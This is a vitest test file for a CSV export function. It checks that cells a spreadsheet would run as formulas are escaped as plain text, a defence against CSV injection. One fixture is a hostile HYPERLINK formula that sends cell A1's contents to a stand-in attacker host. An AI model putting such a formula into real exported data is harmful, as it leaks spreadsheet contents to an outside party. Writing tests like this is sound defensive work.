import { describe, expect, it } from 'vitest';
import { csv } from '../../src/execution/access.js';

/**
 * The same class as the input faults, on the way out: text someone typed into a record
 * about a person (a ticket, a note) reaches the person's access package as CSV, where a
 * spreadsheet would run a cell starting with `=`, `+`, `-` or `@` as a formula (OWASP, CSV
 * injection). Such cells open as text; numbers and data.json are untouched.
 */
describe('CSV of an access package', () => {
  it('makes cells a spreadsheet would run as formulas plain text', () => {
    const text = csv([
      {
        note: '=HYPERLINK("http://attacker.example.com/?"&A1,"click")',
        phone: '+32 470 12 34 56',
        handle: '@ana',
        dash: '-2+3',
        tab: '\t=1+1',
        '=column': 'x',
      },
    ]);
    const [header, row] = text.split('\r\n');
    expect(header).toBe(`note,phone,handle,dash,tab,'=column`);
    expect(row).toBe(
      `"'=HYPERLINK(""http://attacker.example.com/?""&A1,""click"")",'+32 470 12 34 56,'@ana,'-2+3,'\t=1+1,x`,
    );
  });

  it('leaves numbers, negative ones too, and ordinary text as they are', () => {
    const text = csv([{ amount: -12.5, count: 3, signed: '-7', name: 'Ana García' }]);
    expect(text.split('\r\n')[1]).toBe('-12.5,3,-7,Ana García');
  });
});
